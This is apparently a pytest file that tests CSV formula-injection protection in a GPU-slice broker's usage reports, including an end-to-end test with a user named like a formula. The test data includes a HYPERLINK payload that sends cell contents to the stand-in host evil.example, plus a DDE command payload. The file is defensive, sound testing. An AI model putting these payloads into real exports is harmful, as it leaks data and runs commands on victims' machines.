"""Usage reports as CSV: no text cell reaches a spreadsheet as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest
from servicefixtures import running_service

from broker.core.accounting import csv_cell, usage_csv

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\uff1d1+1", "=cmd|' /C calc'!A0"]
)
def test_text_that_starts_like_a_formula_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["alice", "a=b", "", 12.5, -3.0, 0])
def test_other_cells_are_left_alone(value):
    assert csv_cell(value) == value


def test_the_csv_quotes_text_and_keeps_numbers_numbers():
    text = usage_csv(
        [{"project": "p", "user": EVIL, "gpu_seconds": -0.5, "slices": 2}],
        ["project", "user", "slices", "gpu_seconds"],
    )
    header, row = text.splitlines()
    assert header == '"project","user","slices","gpu_seconds"'
    assert row == '"p","\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",2,-0.5'
    (parsed,) = csv.DictReader(io.StringIO(text))
    assert parsed["user"] == "'" + EVIL


def test_a_user_named_like_a_formula_is_text_in_the_usage_report(tmp_path: Path):
    with running_service(tmp_path, pass_interval=1) as service:
        admin = service.admin_token
        changed = service.put(
            "/projects/vision", token=admin, json={"share": 1, "parent": "lab", "users": [EVIL]}
        )
        assert changed.status_code == 200, changed.text
        evil = service.token(EVIL)
        made = service.post(
            "/slices", token=evil, json={"project": "vision", "gpus": 1, "kind": "interactive"}
        )
        assert made.status_code == 201, made.text
        slice_id = made.json()["id"]
        granted = service.get(
            f"/slices/{slice_id}", token=evil, params={"wait": 5, "state": "pending"}
        )
        assert granted.json()["state"] == "granted"
        assert service.delete(f"/slices/{slice_id}", token=evil).status_code == 200

        report = service.get(
            "/projects/lab/usage",
            token=admin,
            params={"format": "csv", "by": "user", "since": "0", "until": str(time.time() + 60)},
        )
        assert report.status_code == 200 and report.headers["Content-Type"].startswith("text/csv")
        (row,) = csv.DictReader(io.StringIO(report.text))
        assert row["user"] == "'" + EVIL
        assert float(row["gpu_seconds"]) > 0
        # JSON keeps the name as it is: only the spreadsheet format needs the guard
        as_json = service.get("/projects/lab/usage", token=admin, params={"since": "0"}).json()
        assert [r["user"] for r in as_json["usage"]] == [EVIL]
